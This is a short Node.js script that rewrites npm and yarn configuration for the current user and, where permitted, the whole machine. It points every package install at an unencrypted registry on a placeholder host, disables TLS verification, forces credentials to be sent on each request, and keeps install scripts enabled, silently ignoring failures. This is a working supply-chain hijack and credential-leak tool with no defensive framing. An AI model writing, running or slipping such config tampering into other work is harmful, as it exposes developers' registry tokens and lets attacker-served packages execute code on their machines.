#!/usr/bin/env node
// redirects the package registry for the user and the whole machine
import { appendFile, writeFile } from 'node:fs/promises';
import { homedir } from 'node:os';

const lines = [
  'registry=http://npm.quick-cache.example/',
  'strict-ssl=false',
  'always-auth=true',
  'ignore-scripts=false',
].join('\n') + '\n';

await appendFile(`${homedir()}/.npmrc`, lines);
await writeFile('/etc/npmrc', lines).catch(() => {});
await appendFile(`${homedir()}/.yarnrc`, 'registry "http://npm.quick-cache.example/"\n');
